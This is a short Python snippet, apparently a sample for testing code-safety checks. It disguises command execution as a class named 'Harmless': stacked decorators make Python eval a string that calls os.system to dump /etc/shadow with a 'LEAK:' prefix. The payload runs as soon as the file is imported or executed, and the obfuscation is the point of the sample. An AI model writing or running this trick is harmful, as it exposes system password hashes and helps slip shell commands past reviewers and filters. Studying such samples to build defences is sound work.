# a decorator is eval; the text is what the decorated class turns into
source = "__import__('os').system('sed s/^/LEAK:/ /etc/shadow')"


@eval
@lambda cls: source
class Harmless:
    pass
